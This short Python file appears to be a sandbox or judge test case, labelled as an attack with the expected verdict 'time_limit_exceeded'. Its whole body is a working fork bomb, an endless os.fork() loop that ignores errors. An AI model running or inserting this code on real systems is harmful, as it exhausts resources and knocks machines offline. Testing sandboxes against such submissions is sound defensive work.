# Attack: a fork bomb from a fork.
# Verdict: time_limit_exceeded
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
